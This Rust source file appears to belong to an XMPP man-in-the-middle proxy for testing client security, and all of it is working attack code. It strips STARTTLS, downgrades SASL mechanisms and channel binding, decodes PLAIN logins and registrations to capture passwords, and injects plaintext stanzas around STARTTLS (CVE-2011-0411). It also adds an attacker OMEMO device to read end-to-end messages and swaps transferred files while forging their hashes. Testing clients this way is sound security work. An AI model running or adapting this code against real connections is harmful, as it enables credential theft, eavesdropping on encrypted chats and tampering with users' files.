//! What the proxy does with each unit going past: report it, take the
//! secrets in it, and change it when an attack says so (the server's
//! features, where STARTTLS and the SASL mechanisms are offered).

use base64::Engine;
use base64::engine::general_purpose::STANDARD as B64;
use protocol::sasl;
use protocol::{Element, Node, ns};

use super::context::Conn;
use crate::attack::Attack;
use crate::event::{Dir, Event, summarize};
use crate::records::Records;
use crate::rules::{self, Action};
use crate::xmpp::{Piece, RawReason, Unit, starts_tls};

/// Counts the TLS records going past, and flips `corrupt-tls`' bit.
pub(crate) fn follow_records(c: &Conn, dir: Dir, records: &mut Records, bytes: &mut [u8]) {
    let before = records.flipped();
    records.track(bytes);
    let mut f = c.facts();
    match dir {
        Dir::ClientToServer => f.records.0 = records.app_data(),
        Dir::ServerToClient => f.records.1 = records.app_data(),
    }
    if records.flipped() && !before {
        f.flipped = Some(f.records.1);
        drop(f);
        c.report_attack(
            Attack::CorruptTls,
            format!(
                "flipped one bit of TLS application-data record #{} from the client",
                c.shared.corrupt_record
            ),
        );
    }
}

/// Records and reports where a direction stopped being readable.
pub(crate) fn opaque(c: &Conn, dir: Dir, at: u64, reason: &RawReason) {
    let why = match reason {
        RawReason::Tls => "TLS".to_string(),
        RawReason::DirectTls => "direct TLS from the first byte".to_string(),
        RawReason::Unreadable(e) => format!("not readable XMPP ({e})"),
    };
    if dir == Dir::ClientToServer {
        let mut f = c.facts();
        match reason {
            RawReason::Tls => f.tls_at = Some(at),
            RawReason::DirectTls => f.direct_tls = true,
            RawReason::Unreadable(_) => {}
        }
    }
    c.shared.report.emit(Event::Opaque {
        conn: c.id,
        dir,
        at_byte: at,
        reason: why,
    });
}

/// Looks at one unit, applies the attacks to it, and appends what is to
/// be forwarded to `out`; the capture gets the unit as it arrived and what
/// went on.
pub(crate) fn inspect(c: &Conn, dir: Dir, piece: Piece, out: &mut Vec<u8>) {
    if !unrecorded(c, &piece) {
        c.record(dir, true, &piece.bytes);
    }
    inspect_arrived(c, dir, piece, out);
}

/// Where the proxy ends TLS itself, the switch into that TLS is not part
/// of the recorded (plaintext) streams: see `crate::pcap`.
fn unrecorded(c: &Conn, piece: &Piece) -> bool {
    c.shared.attacks.contains(&Attack::InterceptTls)
        && matches!(&piece.unit, Unit::Element(e) if starts_tls(e))
}

/// [`inspect`] for a unit whose arrival the capture already has (a TLS
/// record, recorded before `corrupt-tls` flipped its bit; features held
/// back by `strip-starttls`).
pub(crate) fn inspect_arrived(c: &Conn, dir: Dir, piece: Piece, out: &mut Vec<u8>) {
    let unrecorded = unrecorded(c, &piece);
    let start = out.len();
    inspect_unit(c, dir, piece, out);
    if !unrecorded {
        c.record(dir, false, &out[start..]);
    }
}

fn inspect_unit(c: &Conn, dir: Dir, piece: Piece, out: &mut Vec<u8>) {
    match piece.unit {
        Unit::Header(h) => {
            if dir == Dir::ClientToServer && h.to.is_some() {
                c.facts().domain.clone_from(&h.to);
            }
            if !c.shared.quiet {
                c.shared.report.emit(Event::Stream {
                    conn: c.id,
                    dir,
                    to: h.to.clone().map(clip),
                    from: h.from.clone().map(clip),
                });
            }
            out.extend_from_slice(&piece.bytes);
        }
        Unit::Element(el) => {
            c.facts().stanzas += 1;
            // The server's features may be changed by an attack: the
            // line shows what the client really gets.
            let mut changed = match dir {
                Dir::ClientToServer => None,
                Dir::ServerToClient => server_element(c, &el),
            };
            if let Some(attacker) = &c.shared.omemo {
                let mut current = changed.clone().unwrap_or_else(|| el.clone());
                if omemo(c, attacker, dir, &mut current) {
                    changed = Some(current);
                }
            }
            let mut dropped = false;
            let mut injected = Vec::new();
            if c.shared.attacks.contains(&Attack::Tamper) {
                let mut current = changed.clone().unwrap_or_else(|| el.clone());
                let t = tamper(c, dir, &mut current);
                if t.modified {
                    changed = Some(current);
                }
                dropped = t.dropped;
                injected = t.injected;
            }
            if !c.shared.quiet {
                let shown = changed.as_ref().unwrap_or(&el);
                c.shared.report.emit(Event::Stanza {
                    conn: c.id,
                    dir,
                    stanza: summarize(shown),
                });
            }
            if dir == Dir::ClientToServer {
                client_element(c, &el);
            }
            if !dropped {
                match changed {
                    Some(new) => out.extend_from_slice(new.to_xml().as_bytes()),
                    None => out.extend_from_slice(&piece.bytes),
                }
            }
            for xml in injected {
                out.extend_from_slice(xml.as_bytes());
            }
            if c.shared.attacks.contains(&Attack::InjectStarttls) && starts_tls(&el) {
                inject(c, dir, out);
            }
        }
        Unit::Close | Unit::Raw => out.extend_from_slice(&piece.bytes),
    }
}

/// The stanza `inject-starttls` slips in after the last plaintext element
/// of a direction. It would show as a message from the server (toward the
/// client) or be delivered to the sender itself (toward the server): a
/// side that acted on it after TLS started would make it visible.
pub const INJECTED_BODY: &str = "INJECTED BEFORE TLS";

/// Appends a plaintext stanza right after `<starttls/>` (toward the
/// server: command injection) or `<proceed/>` (toward the client:
/// response injection), in the same write, so that it arrives in the same
/// read as the element before TLS starts (the NO STARTTLS attacks,
/// Poddebniak et al., USENIX Security 2021; CVE-2011-0411).
fn inject(c: &Conn, dir: Dir, out: &mut Vec<u8>) {
    let stanza = match dir {
        Dir::ClientToServer => format!(
            "<message type='chat' to='{}'><body>{INJECTED_BODY}</body></message>",
            c.facts()
                .domain
                .clone()
                .unwrap_or_else(|| "localhost".into())
        ),
        Dir::ServerToClient => format!(
            "<message type='chat' from='admin@localhost'><body>{INJECTED_BODY}</body></message>"
        ),
    };
    out.extend_from_slice(stanza.as_bytes());
    {
        let mut f = c.facts();
        match dir {
            Dir::ClientToServer => f.injected.0 = true,
            Dir::ServerToClient => f.injected.1 = true,
        }
    }
    c.report_attack(
        Attack::InjectStarttls,
        match dir {
            Dir::ClientToServer => {
                "slipped a plaintext <message/> in after the client's <starttls/> (command injection)"
            }
            Dir::ServerToClient => {
                "slipped a plaintext <message/> in after the server's <proceed/> (response injection)"
            }
        }
        .into(),
    );
}

/// How many of the messages the attacker read a verdict names.
const MAX_KEPT_READS: usize = 4;

/// `inject-omemo-device` on one stanza; whether it changed it.
fn omemo(c: &Conn, attacker: &crate::omemo::Attacker, dir: Dir, el: &mut Element) -> bool {
    use crate::omemo::Did;
    // The client's own JID (its own device list is left alone, and the
    // messages it sends are from it).
    if dir == Dir::ServerToClient
        && el.name == "iq"
        && let Some(jid) = el
            .get_child("bind", ns::BIND)
            .and_then(|b| b.child_text("jid", ns::BIND))
    {
        c.facts().jid = Some(jid.split('/').next().unwrap_or_default().to_string());
    }
    let did = {
        let mut f = c.facts();
        let me = f.jid.clone();
        let pending = &mut f.omemo_pending;
        match dir {
            Dir::ServerToClient => attacker.to_client(el, me.as_deref(), pending),
            Dir::ClientToServer => attacker.to_server(el, me.as_deref(), pending),
        }
    };
    let Some(did) = did else {
        return false;
    };
    let id = attacker.id();
    let (said, changed) = {
        let mut f = c.facts();
        match &did {
            Did::Injected { owner, v, devices } => {
                f.omemo_injected += 1;
                (
                    format!(
                        "added the attacker's device {id} to {owner}'s OMEMO device list ({}); the client now sees devices {}",
                        v.ns(),
                        devices
                            .iter()
                            .take(8)
                            .map(u32::to_string)
                            .collect::<Vec<_>>()
                            .join(", ")
                    ),
                    true,
                )
            }
            Did::Served { owner, v } => {
                f.omemo_served += 1;
                (
                    format!(
                        "answered the client's request for device {id}'s bundle with the attacker's keys, as {owner}'s ({})",
                        v.ns()
                    ),
                    true,
                )
            }
            Did::Read { to, text } => {
                f.omemo_read_count += 1;
                let what = if text.is_empty() {
                    format!("an empty OMEMO message to {to}")
                } else {
                    format!("\"{}\" (end-to-end, to {to})", clip(text.clone()))
                };
                if f.omemo_read.len() < MAX_KEPT_READS && !text.is_empty() {
                    f.omemo_read.push(what.clone());
                }
                (
                    format!("DECRYPTED {what}: the client encrypted it to the injected device"),
                    false,
                )
            }
            Did::Unreadable { to, why } => (
                format!(
                    "an end-to-end message to {to} carries a key for the injected device, but it could not be opened: {}",
                    clip(why.clone())
                ),
                false,
            ),
            Did::Refused { to } => {
                f.omemo_refused += 1;
                (
                    format!(
                        "an end-to-end message to {to} carries no key for the injected device: the client did not trust it"
                    ),
                    false,
                )
            }
        }
    };
    c.report_attack(Attack::InjectOmemoDevice, said);
    changed
}

/// What the client sends: the secrets the attacker is after.
fn client_element(c: &Conn, el: &Element) {
    if el.is("starttls", ns::TLS) {
        c.facts().client_starttls = true;
    } else if el.is("response", ns::SASL) {
        let mut f = c.facts();
        // A real exchange is a few steps; a peer looping on responses
        // must not grow what replay keeps.
        if f.sasl.len() < MAX_SASL_STEPS {
            f.sasl.push(el.to_xml());
        }
    } else if el.is("auth", ns::SASL) {
        let mech = el.get_attr("mechanism").unwrap_or("").to_string();
        {
            let mut f = c.facts();
            f.mechanism = Some(mech.clone());
            // A new exchange: what replay would play starts here.
            f.sasl = vec![el.to_xml()];
            f.sasl_success = false;
        }
        if mech == "PLAIN"
            && let Ok(raw) = B64.decode(el.text_content().trim())
            && let Ok(creds) = sasl::parse_plain(&raw)
        {
            captured(c, creds.username, creds.password, "SASL PLAIN");
        }
    } else if let Some(q) = el
        .get_child("query", ns::REGISTER)
        .filter(|_| el.name == "iq" && el.get_attr("type") == Some("set"))
        && let (Some(user), Some(password)) = (
            q.child_text("username", ns::REGISTER),
            q.child_text("password", ns::REGISTER),
        )
    {
        captured(c, user, password, "registration");
    }
}

/// Longest peer-supplied string an event carries, in characters: the
/// queue of events is bounded in count, so each must be small.
const MAX_EVENT_TEXT: usize = 512;

fn clip(s: String) -> String {
    if s.chars().count() > MAX_EVENT_TEXT {
        s.chars().take(MAX_EVENT_TEXT).collect::<String>() + "..."
    } else {
        s
    }
}

fn captured(c: &Conn, user: String, secret: String, source: &str) {
    let (user, secret) = (clip(user), clip(secret));
    c.facts().password = Some((user.clone(), source.to_string()));
    c.shared.report.emit(Event::Captured {
        conn: c.id,
        what: "password".into(),
        user,
        secret,
        source: source.into(),
    });
}

/// What the server sends: the features are where STARTTLS and the SASL
/// mechanisms are offered, so that is where the attacks cut. Returns
/// the element to send instead, if it was changed.
fn server_element(c: &Conn, el: &Element) -> Option<Element> {
    if el.is("success", ns::SASL) {
        c.facts().sasl_success = true;
    }
    if el.is("failure", ns::SASL) {
        let text = el.child_text("text", ns::SASL).unwrap_or_default();
        c.facts().sasl_failure = Some(clip(text));
    }
    if !el.is("features", ns::STREAM) {
        return None;
    }
    if el.has_child("starttls", ns::TLS) {
        c.facts().starttls_offered = true;
    }
    let mut new = el.clone();
    let mut changed = false;
    if c.shared.attacks.contains(&Attack::StripStarttls) && new.has_child("starttls", ns::TLS) {
        new.children
            .retain(|n| !matches!(n, Node::Element(c) if c.is("starttls", ns::TLS)));
        c.facts().starttls_stripped = true;
        c.report_attack(
            Attack::StripStarttls,
            "removed <starttls/> from the features the client sees".into(),
        );
        changed = true;
    }
    if c.shared.attacks.contains(&Attack::DowngradeSasl)
        && let Some((offered, kept)) = downgrade(c, &mut new)
    {
        // The server's list is peer text: bounded like every event's.
        c.report_attack(
            Attack::DowngradeSasl,
            clip(format!(
                "offered the client only {} instead of {}",
                kept.join(", "),
                offered.join(", ")
            )),
        );
        c.facts().downgraded_to = Some(kept);
        changed = true;
    }
    changed.then_some(new)
}

/// `downgrade-sasl`: cuts the offer in `features` down to `--offer`.
/// Mechanism names keep those mechanisms; entries like
/// `tls-server-end-point` keep only those channel-binding types (XEP-0440),
/// leaving a -PLUS client the weaker binding. With no -PLUS left, the
/// binding types go too, so the features look like a server without
/// channel binding. Returns what was offered and what was left (each
/// mechanism and type), if anything changed.
fn downgrade(c: &Conn, features: &mut Element) -> Option<(Vec<String>, Vec<String>)> {
    let keep = &c.shared.offer;
    let keep_types: Vec<String> = keep
        .iter()
        .filter(|k| k.starts_with("TLS-"))
        .map(|k| k.to_ascii_lowercase())
        .collect();
    let types: Vec<String> = features
        .get_child("sasl-channel-binding", ns::SASL_CB)
        .map(|cb| {
            cb.elements()
                .filter_map(|t| t.get_attr("type").map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    let mechs = features.get_child_mut("mechanisms", ns::SASL)?;
    let offered: Vec<String> = mechs
        .elements()
        .filter(|m| m.name == "mechanism")
        .map(|m| m.text_content().trim().to_string())
        .collect();
    let kept: Vec<String> = offered
        .iter()
        .filter(|m| keep.contains(m))
        .cloned()
        .collect();
    let kept_types: Vec<String> = if keep_types.is_empty() {
        types.clone()
    } else {
        types
            .iter()
            .filter(|t| keep_types.contains(t))
            .cloned()
            .collect()
    };
    let plus_left = kept.iter().any(|m| m.ends_with("-PLUS"));
    let kept_types = if plus_left { kept_types } else { Vec::new() };
    if kept.is_empty() || (kept.len() == offered.len() && kept_types.len() == types.len()) {
        return None;
    }
    mechs.children.retain(|n| {
        !matches!(n, Node::Element(m) if m.name == "mechanism" && !kept.contains(&m.text_content().trim().to_string()))
    });
    if kept_types.is_empty() {
        features.children.retain(
            |n| !matches!(n, Node::Element(e) if e.is("sasl-channel-binding", ns::SASL_CB)),
        );
    } else if let Some(cb) = features.get_child_mut("sasl-channel-binding", ns::SASL_CB) {
        cb.children.retain(|n| {
            !matches!(n, Node::Element(t) if !t.get_attr("type").is_some_and(|a| kept_types.iter().any(|k| k == a)))
        });
    }
    Some((
        offered.into_iter().chain(types).collect(),
        kept.into_iter().chain(kept_types).collect(),
    ))
}

/// SASL steps kept for `replay` (auth, then responses).
const MAX_SASL_STEPS: usize = 8;

/// Files being swapped at once on one connection.
const MAX_SWAPS: usize = 16;

/// Changes a connection's verdict keeps by name (the rest are counted).
const MAX_KEPT_CHANGES: usize = 8;

/// What the tamper rules did to one stanza.
#[derive(Default)]
struct Tampered {
    modified: bool,
    dropped: bool,
    injected: Vec<String>,
}

/// Applies every matching rule to `el`, and carries on a file swap begun
/// at its offer into the file's In-Band Bytestream blocks.
fn tamper(c: &Conn, dir: Dir, el: &mut Element) -> Tampered {
    let mut t = Tampered::default();
    let mut said = Vec::new();
    // A block of a file being swapped: its bytes become the replacement's
    // bytes at the same offset, whatever the rules match.
    if let Some((sid, bytes)) = rules::ibb_block(el) {
        let mut f = c.facts();
        if let Some((swap, offset)) = f.swaps.get_mut(&sid) {
            let end = (*offset + bytes.len()).min(swap.bytes.len());
            let start = (*offset).min(end);
            let first = *offset == 0;
            rules::set_ibb_block(el, &swap.bytes[start..end]);
            *offset += bytes.len();
            t.modified = true;
            if first {
                said.push(format!(
                    "replacing the file's data in In-Band Bytestream {sid} with {}",
                    swap.path.display()
                ));
            }
        }
    }
    for rule in &c.shared.rules.0 {
        if !rule.matches(dir, el) {
            continue;
        }
        match &rule.action {
            Action::ReplaceBody(text) => {
                // What it said before: an attacker's log keeps both.
                let was = el
                    .child_text("body", ns::CLIENT)
                    .map(|b| format!(" (it said \"{}\")", clip(b)))
                    .unwrap_or_default();
                rules::set_body(el, text);
                t.modified = true;
                said.push(format!(
                    "replaced the body of a <{}>{was} (rule {})",
                    el.name, rule.line
                ));
            }
            Action::SetAttr(k, v) => {
                el.set_attr(k, v.clone());
                t.modified = true;
                said.push(format!(
                    "set {k}='{v}' on a <{}> (rule {})",
                    el.name, rule.line
                ));
            }
            Action::Drop => {
                t.dropped = true;
                said.push(format!("dropped a <{}> (rule {})", el.name, rule.line));
            }
            Action::Inject(xml) => {
                t.injected.push(xml.clone());
                said.push(format!(
                    "injected {xml} after a <{}> (rule {})",
                    el.name, rule.line
                ));
            }
            Action::Delay(d) => {
                let mut f = c.facts();
                f.delay = Some(f.delay.map_or(*d, |old| old.max(*d)));
                said.push(format!(
                    "delayed a <{}> by {} ms (rule {})",
                    el.name,
                    d.as_millis(),
                    rule.line
                ));
            }
            Action::SwapFile(swap) => {
                if let Some((sid, size)) = rules::file_offer(el) {
                    let room = c.facts().swaps.len() < MAX_SWAPS;
                    if !room {
                        said.push(format!(
                            "did not swap the offered file: {MAX_SWAPS} swaps already on this connection (rule {})",
                            rule.line
                        ));
                    } else if size == swap.bytes.len() as u64 {
                        let was = rules::offer_hash(el)
                            .map(|h| format!(" (its SHA-256 was {})", rules::hash_both_ways(&h)))
                            .unwrap_or_default();
                        rules::set_offer_hash(el, &swap.sha256);
                        c.facts().swaps.insert(sid, (swap.clone(), 0));
                        t.modified = true;
                        said.push(format!(
                            "swapped the offered file{was} for {} ({size} bytes) and its SHA-256 in \
                             the offer: the receiver's hash check will pass (rule {})",
                            swap.path.display(),
                            rule.line
                        ));
                    } else {
                        said.push(format!(
                            "did not swap the offered file: it is {size} bytes, {} is {} (rule {})",
                            swap.path.display(),
                            swap.bytes.len(),
                            rule.line
                        ));
                    }
                }
            }
        }
    }
    for s in said {
        {
            // The verdict names the first changes and counts the rest: a
            // long session of changes must not grow the record without end.
            let mut f = c.facts();
            f.tamper_count += 1;
            if f.tampered.len() < MAX_KEPT_CHANGES {
                f.tampered.push(s.clone());
            }
        }
        c.report_attack(Attack::Tamper, s);
    }
    t
}
